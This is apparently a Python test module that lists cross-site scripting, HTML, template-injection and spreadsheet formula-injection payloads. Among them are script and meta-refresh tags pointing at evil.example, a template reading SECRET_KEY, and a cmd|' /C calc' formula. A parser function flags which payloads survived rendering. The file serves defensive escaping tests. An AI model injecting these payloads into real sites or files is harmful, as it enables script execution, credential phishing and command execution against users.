"""Texts that try to become more than text: each carries MARK in the name of an element or an attribute, or would leave
RUN behind if somebody worked it out."""

from lxml import html

MARK = "xmark"
RUN = "xmark49ran"

_ELEMENTS = """
<xmark>
</span><xmark>
"><xmark>
'><xmark>
<b xmark=1>a</b>
<b xmark="1">a</b>
</p></td></tr></table><xmark>
</title><xmark>
</textarea><xmark>
</script><xmark>
</style><xmark>
</option></select><xmark>
</button></form><xmark>
</label></fieldset><xmark>
</noscript><xmark>
</template><xmark>
</iframe><xmark>
</main></body></html><xmark>
<!--xmark
--><xmark>
--!><xmark>
<!--><xmark>
]]><xmark>
<![CDATA[<xmark>]]>
<?xmark ?><xmark>
<!DOCTYPE xmark><xmark>
<xmark/><xmark
<xmark/onload=alert(1)>
<<xmark>
<xmark//
<XMARK>
<a xmark href="javascript:alert(1)">a</a>
<a xmark href=java&#9;script:alert(1)>a</a>
<a xmark href="https://evil.example/">a</a>
<img xmark src=x onerror=alert(1)>
<img xmark src="https://evil.example/a.png">
<svg xmark onload=alert(1)>
<svg><script xmark>alert(1)</script></svg>
<svg><foreignObject><xmark>
<svg><a xmark xlink:href="javascript:alert(1)"><text>a</text></a></svg>
<math><mtext><xmark>
<math><mi xmark xlink:href="javascript:alert(1)">
<script xmark>alert(1)</script>
<script xmark src=https://evil.example/a.js></script>
<style xmark>*{display:none}</style>
<link xmark rel=stylesheet href=https://evil.example/a.css>
<meta xmark http-equiv=refresh content="0;url=https://evil.example/login">
<base xmark href=https://evil.example/>
<iframe xmark src=https://evil.example/></iframe>
<iframe xmark srcdoc="<script>alert(1)</script>"></iframe>
<object xmark data=https://evil.example/></object>
<embed xmark src=https://evil.example/>
<form xmark action=https://evil.example/><input name=a>
<button xmark formaction=/review/1/extend/>a</button>
<button xmark class="position-fixed top-0 start-0 w-100 h-100 opacity-0 z-3" formmethod=post>
<input xmark type=hidden name=reason value=a>
<input xmark autofocus onfocus=alert(1)>
<details xmark open ontoggle=alert(1)>
<video xmark><source onerror=alert(1)></video>
<dialog xmark open>a</dialog>
<template xmark><b>a</b></template>
<noscript><p title="</noscript><xmark>">
<textarea xmark autofocus>
<select xmark><option>
<plaintext xmark>
<table><td xmark>
<body xmark onpageshow=alert(1)>
<p xmark style="position:fixed;inset:0">
"""
_ATTRIBUTES = """
" xmark="
' xmark='
" onfocus=alert(1) autofocus xmark="
' onmouseover=alert(1) xmark='
` xmark=`
x xmark=1
"/xmark="
" formaction="/logout/" xmark="
&quot; xmark=&quot;
&#34; xmark=&#34;
"""
_ENCODED = """
&lt;xmark&gt;
&amp;lt;xmark&amp;gt;
&#60;xmark&#62;
&#x3c;xmark&#x3e;
&#0060xmark&#0062
%3Cxmark%3E
\\u003cxmark\\u003e
\\x3cxmark\\x3e
＜xmark＞
‹xmark›
+ADw-xmark+AD4-
<\u200bxmark><xmark\u00a0a>
<\u202exmark><xmark>
javascript:alert("xmark")
data:text/html,<xmark>
//evil.example/<xmark>
"""
_TEMPLATES = """
{{ "xmark"|add:"49ran" }}
{% filter add:"49ran" %}xmark{% endfilter %}
{{ "<xmark>"|safe }}
{% autoescape off %}<xmark>{% endautoescape %}
{% include "mail/letter.txt" %}<xmark>
{{ settings.SECRET_KEY }}<xmark>
{0.__class__}<xmark>
%(xmark)s<xmark>
${7*7}<xmark>
#{7*7}<xmark>
"""
_FORMULAS = """
=HYPERLINK("https://evil.example","<xmark>")
+cmd|' /C calc'!A0<xmark>
-2+3<xmark>
@SUM(1+1)<xmark>
=1+1
"""

PAYLOADS = [
    line
    for lines in (_ELEMENTS, _ATTRIBUTES, _ENCODED, _TEMPLATES, _FORMULAS)
    for line in lines.splitlines()
    if line.strip()
]
# What one spreadsheet program or another works out when it opens a CSV file, or when a person presses Enter in the
# cell: also behind blanks and quotation marks, and in the signs of East Asian keyboards.
FORMULAS = [
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=",
        "-",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    *(
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\t1",
        " =1+1",
        "\u00a0=1+1",
        "  +1",
        "\u3000＝1",
    ),
    *("'=1+1", "''=1+1", "' =1+1", '"=1+1', '"=1+1"', "\"'=1", '=HYPERLINK("https://evil.example","а")', "=1+1;=2+2"),
    *("=\n1", "-подписано", "- подписано", "+7 (4812) 00-01-20", "=ДВССЫЛ(A1)", "@Смоленск"),
]
NO_FORMULAS = [
    "",
    "а=1",
    "Смоленск",
    "12",
    "1-2",
    "«=1+1»",
    "а\n=1+1",
    "(+1)",
    "№ -1",
    "'",
    "''а",
    '"а"',
    "а;=1+1",
    "|calc",
    "%00",
]
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data"}
_RUNS = ("javascript:", "vbscript:", "data:text/html")


def made_of(page):
    """What of a page only a payload could have made, as short sentences."""
    made = ["a template was worked out"] if RUN in page else []
    for element in html.document_fromstring(page or "<p>").iter():
        if not isinstance(element.tag, str):
            made += [f"comment {element.text[:60]}"] if MARK in (element.text or "") else []
            continue
        if MARK in element.tag:
            made.append(f"element {element.tag}")
        if element.tag in {"script", "style"} and MARK in (element.text or ""):
            made.append(f"text of {element.tag}")
        for name, value in element.attrib.items():
            runs = name in _ADDRESSES and "".join(value.split()).lower().startswith(_RUNS)
            if MARK in name or runs or (name == "http-equiv" and value.lower() == "refresh"):
                made.append(f"attribute {name}={value[:60]} of {element.tag}")
    return made
